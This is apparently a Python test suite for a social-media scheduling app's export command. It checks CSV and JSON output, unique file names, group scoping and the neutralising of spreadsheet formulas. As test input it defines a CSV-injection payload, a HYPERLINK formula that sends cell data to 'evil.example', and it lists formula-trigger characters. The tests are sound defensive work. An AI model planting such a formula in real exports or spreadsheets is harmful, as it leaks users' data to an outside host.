"""/export through Postroom: posts, their targets and metrics as CSV and JSON files, every cell
a spreadsheet would run as a formula neutralised, a group's export holding its own posts."""

from __future__ import annotations

import csv
import io
import json
import re

from core.handlers import Actor
from core.metrics import Metric
from core.model import ChatKind, ChatPlatform, ChatRef, Identity, Network
from core.replies import Reply
from core.transfer.export import COLUMNS, neutralised
from tests.core.harness import VIDEO, Harness

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


async def published(h: Harness, text: str, *networks: Network) -> int:
    """A post published now through the composer and the pipeline; its id."""
    composer = await h.compose(f"{text}\nmedia: {VIDEO}", *networks)
    await h.tap(composer, "Publish now")
    await h.pipeline.run_until_idle()
    profile = await h.app.profile_for(h.actor())
    async with h.uow() as uow:
        (post, *_) = await uow.posts.recent(profile.id, origin=None, limit=1)
    return post.id


async def measured(h: Harness, **values: int) -> None:
    """The analytics sync's result, as the sweep stores it: every published target measured."""
    now = h.clock.now()
    async with h.uow() as uow:
        await uow.analytics.adopt_published(now, limit=100)
        for item in await uow.analytics.due(now, limit=100):
            numbers = {Metric(k): v for k, v in values.items()}
            await uow.analytics.record(item.id, numbers, taken_at=now, next_sync_at=None)
        await uow.commit()


def table(reply: Reply) -> list[dict[str, str]]:
    assert reply.document is not None
    assert reply.document.data.startswith(b"\xef\xbb\xbf")  # the BOM Excel reads UTF-8 by
    text = reply.document.data.decode("utf-8-sig")
    assert "\r\n" in text  # RFC 4180 line ends
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and list(rows[0]) == list(COLUMNS)
    return rows


async def test_csv_export_has_a_row_per_target_with_its_metrics(h: Harness) -> None:
    post_id = await published(h, "Launch day! 🚀", Network.TIKTOK, Network.X)
    await h.say(f"/campaign {post_id} launch")
    await measured(h, views=1200, likes=40)
    await h.say("/post A draft, never sent")
    await h.say("/track https://www.youtube.com/watch?v=dQw4w9WgXcQ views=77")
    reply = await h.say("/export")
    # The draft has both connected networks ticked, as the composer does.
    assert reply.text.startswith("📤 Your export: 2 posts with 4 network targets")
    assert "and 1 tracked post, as CSV" in reply.text
    assert reply.document is not None and reply.document.mime == "text/csv"
    assert re.fullmatch(
        r"postroom-export-20261124-100000-[0-9a-f]{6}\.csv", reply.document.filename
    )
    rows = table(reply)
    sent = [r for r in rows if r["post"] == str(post_id)]
    assert [r["network"] for r in sent] == ["tiktok", "x"]
    for row in sent:
        assert row["text"] == "Launch day! 🚀" and row["campaign"] == "launch"
        assert row["target_state"] == "published" and row["url"].startswith("https://")
        assert row["media"] == VIDEO and row["post_state"] == "published"
        assert (row["views"], row["likes"], row["comments"]) == ("1200", "40", "")
    drafts = [r for r in rows if r["text"] == "A draft, never sent"]
    assert [(r["post_state"], r["target_state"], r["views"]) for r in drafts] == [
        ("draft", "draft", ""),
        ("draft", "draft", ""),
    ]
    (tracked,) = [r for r in rows if r["post"].startswith("t")]
    assert tracked["post_state"] == "tracked" and tracked["views"] == "77"


async def test_json_export_nests_targets_and_metrics(h: Harness) -> None:
    post_id = await published(h, "Hello JSON", Network.LINKEDIN)
    await measured(h, views=9)
    reply = await h.say("/export json")
    assert reply.document is not None and reply.document.mime == "application/json"
    assert reply.document.filename.endswith(".json")
    data = json.loads(reply.document.data)
    assert data["exported_at"] == "2026-11-24T10:00:00+00:00" and data["timezone"] == "UTC"
    (post,) = data["posts"]
    assert post["id"] == post_id and post["text"] == "Hello JSON" and post["media"] == [VIDEO]
    (target,) = post["targets"]
    assert target["network"] == "linkedin" and target["state"] == "published"
    assert target["metrics"] == {"views": 9}
    assert data["tracked"] == []


async def test_a_network_own_text_is_in_both_formats(h: Harness) -> None:
    await h.compose("Main text", Network.LINKEDIN, Network.X)
    assert "X" in (await h.say("/version 1 x X text")).text
    rows = table(await h.say("/export"))
    assert [(r["network"], r["text"], r["network_text"]) for r in rows] == [
        ("linkedin", "Main text", ""),
        ("x", "Main text", "X text"),
    ]
    reply = await h.say("/export json")
    assert reply.document is not None
    (post,) = json.loads(reply.document.data)["posts"]
    assert [(t["network"], t["text"]) for t in post["targets"]] == [
        ("linkedin", None),
        ("x", "X text"),
    ]


async def test_two_exports_in_one_second_get_two_names(h: Harness) -> None:
    await h.compose("Once", Network.X)
    names = set()
    for kind in ("", "", " json", " json"):
        reply = await h.say("/export" + kind)
        assert reply.document is not None
        names.add(reply.document.filename)
    assert len(names) == 4 and all(n.startswith("postroom-export-20261124-100000-") for n in names)


async def test_a_formula_in_any_cell_is_neutralised(h: Harness) -> None:
    await published(h, FORMULA, Network.X)
    await h.say("/post +1 for launch")
    await h.say("/post @everyone look")
    await h.say("/post -2 days to go")
    rows = table(await h.say("/export"))
    texts = [r["text"] for r in rows]
    assert f"'{FORMULA}" in texts
    assert {"'+1 for launch", "'@everyone look", "'-2 days to go"} <= set(texts)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON is not read as formulas: the text stays as it was written.
    data = json.loads((await h.say("/export json")).document.data)  # type: ignore[union-attr]
    assert FORMULA in [p["text"] for p in data["posts"]]


def test_neutralised_covers_owasps_characters_and_their_full_width_forms() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
        assert neutralised(start + "1+1") == "'" + start + "1+1"
    for plain in ("Launch", "", " =1", "'=already", "1-2"):
        assert neutralised(plain) == plain


async def test_a_group_exports_only_the_posts_made_in_it(h: Harness) -> None:
    await published(h, "Private one", Network.X)
    group = ChatRef(ChatPlatform.CONSOLE, "team-room", kind=ChatKind.SHARED)
    actor = Actor(Identity(ChatPlatform.CONSOLE, "ana"), group, "ana")
    await h.app.handle_text(actor, "/post From the group")
    reply = await h.app.handle_text(actor, "/export")
    assert reply is not None
    assert [r["text"] for r in table(reply)] == ["From the group"]


async def test_an_empty_profile_and_a_bad_format(h: Harness) -> None:
    empty = await h.say("/export")
    assert empty.text.startswith("📤 Your export: 0 posts with 0 network targets")
    assert table_rows(empty) == []
    wrong = await h.say("/export xlsx")
    assert wrong.text.startswith("Export your posts as a file") and wrong.document is None


def table_rows(reply: Reply) -> list[list[str]]:
    assert reply.document is not None
    text = reply.document.data.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header == list(COLUMNS)
    return rows
